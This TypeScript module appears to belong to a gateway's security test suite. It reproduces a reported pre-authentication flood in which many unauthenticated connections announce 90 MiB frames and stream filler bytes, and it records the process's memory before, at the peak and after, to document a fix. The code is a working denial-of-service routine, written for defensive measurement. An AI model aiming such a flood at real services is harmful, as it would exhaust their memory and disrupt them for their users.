/**
 * The attack of issue #12 finding 6, measured on the gateway process: many unauthenticated
 * connections each announce a 90 MiB frame and stream its body as fast as the gateway reads.
 * Reports the process's RSS before, at the peak and after, so the README can show what such a
 * flood costs (before the pre-authentication frame limit: three connections added 228 MiB).
 */
import { connect, type Socket } from 'node:net';
import type { FuzzedGateway } from './gateway-fuzz.js';

export interface FloodReport {
  connections: number;
  bytesSentPerConnection: number;
  rssBeforeMiB: number;
  rssDuringMaxMiB: number;
  rssAfterMiB: number;
}

export async function preAuthFlood(
  gw: FuzzedGateway,
  o: { connections: number; bytesPerConnection: number },
): Promise<FloodReport> {
  const mib = (kib: number): number => Math.round((kib / 1024) * 10) / 10;
  const before = gw.memory().rssKiB;
  let during = before;
  const sampler = setInterval(() => (during = Math.max(during, gw.memory().rssKiB)), 20);
  const [host, port] = gw.bootstrap.split(':');
  const chunk = Buffer.alloc(64 * 1024, 0x41);
  let sentPerConnection = 0;
  await Promise.all(
    Array.from(
      { length: o.connections },
      () =>
        new Promise<void>((resolve) => {
          const s: Socket = connect({ host, port: Number(port) }, async () => {
            const prefix = Buffer.alloc(4);
            prefix.writeInt32BE(90 * 1024 * 1024);
            s.write(prefix);
            let sent = 0;
            while (sent < o.bytesPerConnection && !s.destroyed) {
              if (!s.write(chunk)) await new Promise((r) => (s.once('drain', r), s.once('close', r)));
              sent += chunk.length;
            }
            sentPerConnection = Math.max(sentPerConnection, sent);
          });
          s.on('error', () => undefined);
          s.on('close', () => resolve());
        }),
    ),
  );
  clearInterval(sampler);
  await new Promise((r) => setTimeout(r, 2000));
  return {
    connections: o.connections,
    bytesSentPerConnection: sentPerConnection,
    rssBeforeMiB: mib(before),
    rssDuringMaxMiB: mib(during),
    rssAfterMiB: mib(gw.memory().rssKiB),
  };
}
